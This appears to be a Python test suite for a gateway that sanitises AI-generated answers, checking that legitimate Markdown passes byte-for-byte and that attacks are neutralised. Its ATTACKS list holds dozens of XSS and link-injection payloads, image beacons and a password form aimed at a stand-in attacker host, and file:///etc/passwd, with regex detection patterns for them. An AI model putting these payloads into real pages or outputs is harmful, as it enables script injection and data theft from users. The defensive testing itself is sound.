"""What no model can make the gateway say, and what gets through as it was said."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from application.containment import Uncontainable
from domain.answer import Answer, Evidence, SuggestedAction
from tests.application.containment.containing import (
    PAYLOADS,
    acting,
    citing,
    contained,
    said,
)

LEGITIMATE = [
    "Your upload was refused with `UPLOAD_TOO_LARGE` (limit 50 MB, your file has 64 MB).",
    "- first\n- second\n\n1. **bold**\n2. _italic_ and *italic*\n   - nested",
    "# Heading\n\n> quoted\n\n---\n\ntext",
    "Replace `<project-id>` in `GET /v1/projects/<project-id>/files`.",
    "Set `<title>`, `List<String>` or ``Map<K, V>``.",
    "if a < b and c > d, or a <= b, a << 2, a <- b, x -> y, I <3 it",
    "`a || b` and `x | y`",
    "| code | what |\n|---|---|\n| `E1` | too large |",
    '```json\n{"error": "<none>", "n": [1, 2](3)}\n```\nand on',
    "1. Run\n   ```\n   if (a < b) { retry(); }\n   ```\n2. Done",
    "See [the limits](https://docs.acme.example/limits?plan=team#upload).",
    "https://docs.acme.example/a, (https://docs.acme.example/a_(b)), **https://docs.acme.example/x**.",
    "<https://docs.acme.example/limits>",
    "Open [Settings](/settings/members?tab=roles#new) or go to /settings.",
    "[limits]: https://docs.acme.example/limits\n\nSee [limits].",
    "The request `POST /v1/uploads` (request req_8f2, 413) failed at 2026-02-20T09:58:12.000Z.",
    "[2026-02-20T09:58:12Z]: the job job_5512 failed in s3://acme-exports/2026/a.csv",
    "C:\\Users\\jo\\file.txt, user@host is no link, 5 * 3 * 2 ~ 30, snake_case_name, $HOME",
    'It\'s "fine" — 50 % of 1,000… “quoted”, été, naïve, 東京, العربية, עברית, 👩‍👩‍👧 ok',
    "data: none. JavaScript: enable it. The file: gone. Note: see http status 502.",
    "Use the `Authorization: Bearer [secret:jwt]` header; write to [email].",
    "Tom & Jerry &amp; &lt;b&gt; AT&T; 1&2",
    "Wait! [1] see below.",
    "A line  \nbroken by two spaces,\ta tab\n\n\nand blank lines",
    "Enable <3 features; use x<5 && y>6",
]


@pytest.mark.parametrize("content", LEGITIMATE)
def test_a_legitimate_answer_gets_through_byte_for_byte(content: str):
    assert said(content) == content


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<x onclick=alert(1)>click</x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=https://evil.example>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<!-- --><b>bold</b><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "it`s `<img src=x onerror=alert(1)>` isn`t",
    "it`s\n`![x](https://evil.example/p.png)`",
    "\\`<img src=x onerror=alert(1)>\\`",
    "- ```\n<img src=x onerror=alert(1)>\n```",
    "- a\n  ```\n<img src=x onerror=alert(1)>\n  ```",
    "~~~\n```\n~~~\n<img src=x onerror=alert(1)>\n```",
    "````\n```\n![x](https://evil.example/p.png)\n````",
    "| `a | <img src=x onerror=alert(1)>` |\n|---|---|",
    "![x](https://evil.example/p.png?secret=1)",
    "![x](https://docs.acme.example/p.png)",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "![x](/p.png)",
    "[x](https://evil.example)",
    "[x](https://evil.example 'title')",
    "[x]( <https://evil.example> )",
    "[x](\nhttps://evil.example\n)",
    "[x\ny](https://evil.example)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](http://docs.acme.example)",
    "[x](https://docs.acme.example.evil.example)",
    "[x](https://docs.acme.example@evil.example)",
    "[x](https://docs.acme.example:8443@evil.example)",
    "[x](https://evil.example/docs.acme.example)",
    "[x](https://evil.example?docs.acme.example)",
    "[x](https://evil.example#https://docs.acme.example)",
    "[x](https://ev\u0456l.example)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript:alert(document.cookie,'a b'))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](mailto:evil@evil.example)",
    "[x](tel:+15550100)",
    "[x][r]\n\n[r]: https://evil.example",
    "[x][r]\n\n[r]:\n   https://evil.example\n   'title'",
    "[r]\n\n[r]: //evil.example",
    "[r]\n\n> [r]: javascript:alert(1)",
    "[[x](https://evil.example)](https://docs.acme.example/)",
    "[![x](https://evil.example/p.png)](https://docs.acme.example/)",
    "[https://bank.example/login](https://docs.acme.example/)",
    "https://evil.example/x?secret=1",
    "HTTPS://EVIL.EXAMPLE/",
    "xhttps://evil.example",
    "http://docs.acme.example/plain",
    "ftp://evil.example/x",
    "www.evil.example/x",
    "<https://evil.example/x>",
    "<javascript:alert(1)>",
    "`https://evil.example/x`",
    "```\ncurl https://evil.example/x\n```",
    "https://docs.acme.example'@evil.example/",
    'https://docs.acme.example"@evil.example/',
    "https://docs.acme.example\\@evil.example/",
    "https://docs.acme.example|https://evil.example/",
    "https:\\\\evil.example",
    "https:/evil.example",
    "htt\u200bps://evil.example",
    "javascript:alert(1)",
    "java\u00adscript:alert(1)",
    "javajavascript:script:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
]


ALLOWED_LINK = re.compile(r"https://docs\.acme\.example(?=[/?#)>\s.,]|\Z)")
CODE = re.compile(
    r"^ {0,3}```[^`\n]*\n(?:(?!.*```).*\n)*? {0,3}```[ \t]*$|``[^`\n]+``|`[^`\n]+`", re.MULTILINE
)
HARM = [
    re.compile(r"(?:https?|ftp|file):[/\\]|(?<!\w)www\.", re.IGNORECASE),
    re.compile(r"(?:javascript|vbscript):\S", re.IGNORECASE),
    re.compile(r"\bdata:[\w;,]", re.IGNORECASE),
    re.compile(r"<(?:script|img|svg|iframe|style|form)|<[a-z][^<>]*\bon\w+=", re.IGNORECASE),
    re.compile(r"(?<!\w)(?://|www\.)[\w.@:]*evil\.example", re.IGNORECASE),
]
HARM_OUTSIDE_CODE = [
    re.compile(r"<[a-z/!?]", re.IGNORECASE),
    re.compile(r"!\["),
    re.compile(r"\]\((?!/(?![/\\])|LINK)"),
    re.compile(r"\]:\s*(?://|\w+:\S)"),
    re.compile(r"`"),
]


def harm_in(text: str) -> list[str]:
    rest = ALLOWED_LINK.sub("LINK", text)
    rules = [(rule, rest) for rule in HARM]
    rules += [(rule, CODE.sub("§", rest)) for rule in HARM_OUTSIDE_CODE]
    return [rule.pattern for rule, where in rules if rule.search(where)]


@pytest.mark.parametrize("content", ATTACKS)
def test_an_attack_becomes_text(content: str):
    assert harm_in(said(content)) == []


@pytest.mark.parametrize("content", ATTACKS)
def test_an_attack_in_a_label_becomes_text(content: str):
    for action in acting("retry", {}, label=content).actions:
        assert harm_in(action.label) == []
        assert "\n" not in action.label
    (piece,) = citing("ok", label=content)
    assert piece.label
    assert harm_in(piece.label) == []


@pytest.mark.parametrize("content", ATTACKS)
def test_an_attack_in_a_payload_goes_nowhere(content: str):
    for kind in ("open_docs", "custom"):
        for action in acting(kind, {"url": content, "docId": content, "note": content}).actions:
            assert harm_in(" ".join(map(str, action.payload.values()))) == []


SPICE = ["[", "]", "(", ")", "`", "```\n", "!", "<", ">", "\n", "\\", "]:", "](", "~~~\n", " ", "|"]
PIECES = [*SPICE, *ATTACKS, "https://", "//", "evil.example", "script", "javascript:", "a", "x=1"]


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_no_mixture_of_attacks_comes_together_again(mixture: str):
    try:
        kept = contained(Answer(content=mixture, confidence=0.5)).content
    except Uncontainable:
        return
    assert harm_in(kept) == []
    assert contained(Answer(content=kept, confidence=0.5)).content == kept


def test_labels_are_one_line_of_at_most_80_characters():
    [action] = acting("retry", {}, label="Try\n the upload\tagain, " + "please " * 30).actions
    assert action.label.startswith("Try the upload again, please")
    assert len(action.label) <= 80


def test_there_are_at_most_six_actions_and_ten_pieces_of_evidence():
    many = Answer(
        content="x",
        actions=tuple(SuggestedAction(type="retry", label=f"n{n}") for n in range(9)),
        evidence=tuple(Evidence(type="job_id", label="Job", value=f"job_{n}") for n in range(19)),
        confidence=0.5,
    )
    assert len(contained(many).actions) == 6
    assert len(contained(many).evidence) == 10


def test_content_is_at_most_8000_characters():
    assert len(said("word " * 5_000)) <= 8_000
    assert len(said("<a" * 50_000)) <= 8_000


def test_what_is_private_is_taken_out_once_more():
    key = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
    assert "jo@example.com" not in said("Write to jo@example.com.")
    assert key not in said(f"Your key is {key}")
    assert key not in said(f"Your key is {key[:12]}\u200b{key[12:]}")
    assert key not in said(f"Your key is {key[:12]}<b></b>{key[12:]}")
    [action] = acting(
        "create_ticket", {"reason": "Tell jo@example.com"}, "Ask jo@example.com"
    ).actions
    assert "jo@example.com" not in action.label + str(action.payload)
    [piece] = citing("x", label="Sent to jo@example.com")
    assert "jo@example.com" not in piece.label


def test_characters_that_are_not_seen_are_taken_out():
    assert said("a\u202eb\u2066c\x1b[31m\x00d\ufeff\U000e0041e\r\nf") == "abc[31mde\nf"


@pytest.mark.parametrize(
    "value", ["<script>alert(1)</script>", "<img src=x onerror=a>", " ", "a\0b"]
)
def test_evidence_that_would_harm_is_dropped(value: str):
    assert citing(value) == ()


@pytest.mark.parametrize(
    "value", ["at Object.<anonymous> (app.js:3)", "a < b\n\tat c", "E_1 [x](y)"]
)
def test_evidence_is_kept_as_it_stands(value: str):
    [piece] = citing(value)
    assert piece.value == value


@pytest.mark.parametrize("content", ["", "  ", "<b></b>", "\u200b", "<script>alert(1)</script>"])
def test_an_answer_with_nothing_left_to_say_is_refused(content: str):
    with pytest.raises(Uncontainable):
        contained(Answer(content=content, confidence=0.5))


@pytest.mark.parametrize(
    "content", [" \u200d", "\u3164\u2800", "&nbsp;&#8203;", "****\n---", "[](/x)", "- \n> …"]
)
def test_an_answer_that_would_be_shown_without_a_word_is_refused(content: str):
    with pytest.raises(Uncontainable, match="empty"):
        contained(Answer(content=content, confidence=0.5))


@pytest.mark.parametrize("content", ["7", "是", "[x](/x)", "&nbsp;a", "**a**", "`\u0663`"])
def test_the_shortest_answer_is_one(content: str):
    assert contained(Answer(content=content, confidence=0.5)).content == content


def test_an_answer_that_harms_nobody_comes_back_equal():
    answer = Answer(
        content="\n\n".join(LEGITIMATE),
        actions=tuple(
            SuggestedAction(type=kind, label=f"Do {n}", payload=payload)
            for n, (kind, payload) in enumerate(PAYLOADS[:6])
        ),
        evidence=(Evidence(type="error_code", label="The error (a < b)", value="E_1"),),
        confidence=0.7,
    )
    assert contained(answer) == answer
